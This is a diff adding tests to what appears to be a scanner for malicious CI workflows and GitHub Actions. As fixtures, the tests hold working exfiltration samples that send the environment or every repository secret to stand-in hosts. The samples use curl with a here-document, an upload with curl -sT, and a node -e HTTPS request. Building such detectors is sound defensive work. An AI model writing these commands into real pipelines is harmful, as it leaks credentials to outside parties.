@@ -478,3 +478,72 @@ describe('steps whose shell is Python', () => {
     ).toEqual([]);
   });
 });
+
+describe('CI variants: here-documents, combined curl flags, env names aliasing secrets', () => {
+  it("a Docker action's entrypoint feeding the environment to curl through a here-document", () => {
+    const r = analyzeSource({
+      'package.json': pkg,
+      'action.yml': 'name: lint\nruns:\n  using: docker\n  image: Dockerfile\n',
+      'entrypoint.sh':
+        '#!/bin/sh\ncurl -s -X POST https://lint-telemetry.example/e --data-binary @- <<EOT\n$(env)\nEOT\n',
+    });
+    expect(r.risk_level).not.toBe('clean');
+    expect(threatsOf(r)).toContain('data_exfiltration');
+  });
+  it('every secret written to a file in one step and sent with curl -sT in the next', () => {
+    const hits = analyzeWorkflow(
+      [
+        'on: push',
+        'jobs:',
+        '  rel:',
+        '    runs-on: ubuntu-latest',
+        '    steps:',
+        "      - run: echo '${{ toJSON(secrets) }}' > s.json",
+        '      - run: curl -sT s.json https://transfer-files.example/up/s.json',
+      ].join('\n'),
+      '.github/workflows/release.yml',
+    );
+    expect(hits.map((h) => h.message)).toEqual([
+      expect.stringMatching(/every secret to s\.json and sends the file/),
+    ]);
+  });
+  it("job env `ALL: ${{ toJSON(secrets) }}` read by a step's node -e code through require('https')", () => {
+    const r = analyzeSource({
+      'package.json': pkg,
+      '.github/workflows/t.yml': [
+        'on: [push]',
+        'jobs:',
+        '  t:',
+        '    runs-on: ubuntu-latest',
+        '    env:',
+        '      ALL: ${{ toJSON(secrets) }}',
+        '    steps:',
+        `      - run: node -e "require('https').request({host:'ci-hook.example',method:'POST'}).end(process.env.ALL)"`,
+      ].join('\n'),
+    });
+    expect(r.risk_level).toBe('critical');
+    expect(threatsOf(r)).toContain('data_exfiltration');
+  });
+  it('quiet: a here-document writing a config file, and a build artifact uploaded with curl -sT', () => {
+    expect(
+      analyzeCiScript(
+        '#!/bin/sh\ncat > config.json <<EOF\n{"retries": 3}\nEOF\ncurl -sT dist/app.tgz https://uploads.example/app.tgz\n',
+      ),
+    ).toEqual([]);
+    expect(
+      analyzeWorkflow(
+        [
+          'on: push',
+          'jobs:',
+          '  a:',
+          '    runs-on: ubuntu-latest',
+          '    env:',
+          '      T: ${{ secrets.NPM_TOKEN }}',
+          '    steps:',
+          '      - run: node -e "console.log(process.env.T ? 1 : 0)"',
+        ].join('\n'),
+        '.github/workflows/a.yml',
+      ),
+    ).toEqual([]);
+  });
+});
